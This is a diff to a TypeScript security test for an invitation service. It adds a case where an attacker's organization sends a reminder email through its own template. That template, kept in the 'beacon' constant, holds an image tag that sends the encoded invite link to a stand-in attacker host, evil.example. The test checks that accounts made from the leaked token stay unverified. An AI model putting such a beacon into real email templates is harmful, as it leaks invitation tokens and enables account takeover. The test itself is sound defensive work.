@@ -146,13 +146,14 @@ describe('accounts whose address nobody proved', () => {
 
       // (b) The organization's own template may send the link anywhere (an image on the
       // inviter's server): a link mailed through it proves nothing either.
+      const beacon = {
+        subject: 'Join {{ organization.name }}',
+        html: '<a href="{{ accept_url }}">Join</a><img src="https://evil.example/p.gif?u={{ accept_url | url_encode }}">',
+        text: 'Join: {{ accept_url }}',
+      };
       const template = await h.call('PUT', '/v1/organizations/evil2/email-templates/en', {
         key: mallory.key,
-        body: {
-          subject: 'Join {{ organization.name }}',
-          html: '<a href="{{ accept_url }}">Join</a><img src="https://evil.example/p.gif?u={{ accept_url | url_encode }}">',
-          text: 'Join: {{ accept_url }}',
-        },
+        body: beacon,
       });
       expect(template.status).toBe(201);
       await h.call('POST', '/v1/organizations/evil2/invitations', {
@@ -166,6 +167,29 @@ describe('accounts whose address nobody proved', () => {
       await signUpFrom(leaked, 'mallorys password');
       const second = await h.call('GET', '/v1/me/invitations', as('cfo@acme.test', 'mallorys password'));
       expect([second.status, second.body.code]).toEqual([403, 'email_unverified']);
+
+      // (c) The first email went out in rsvp's own rendering, but the reminder of the same link
+      // in the organization's template (saved since): that takes the proof away.
+      await h.call('DELETE', '/v1/organizations/evil2/email-templates/en', { key: mallory.key });
+      await h.call('PATCH', '/v1/organizations/evil2', {
+        key: mallory.key,
+        body: { settings: { reminder_before_expiry_seconds: 3600 } },
+      });
+      await h.call('POST', '/v1/organizations/evil2/invitations', {
+        key: mallory.key,
+        body: { email: 'cmo@acme.test', ttl_seconds: 3 * 3600 },
+      });
+      await delivery.worker.drain();
+      await h.call('PUT', '/v1/organizations/evil2/email-templates/en', { key: mallory.key, body: beacon });
+      h.clock.advance(2 * 3600 * 1000 + 60_000);
+      expect((await delivery.sweeper.runOnce()).reminded).toBe(1);
+      await delivery.worker.drain();
+      const reminders = smtp.received.filter((m) => m.to === 'cmo@acme.test');
+      expect(reminders).toHaveLength(2);
+      const reminded = new URL(linkIn(reminders[1]!)).searchParams.get('token')!;
+      await signUpFrom(reminded, 'mallorys password');
+      const third = await h.call('GET', '/v1/me/invitations', as('cmo@acme.test', 'mallorys password'));
+      expect([third.status, third.body.code]).toEqual([403, 'email_unverified']);
     } finally {
       await delivery.stop();
       await smtp.close();
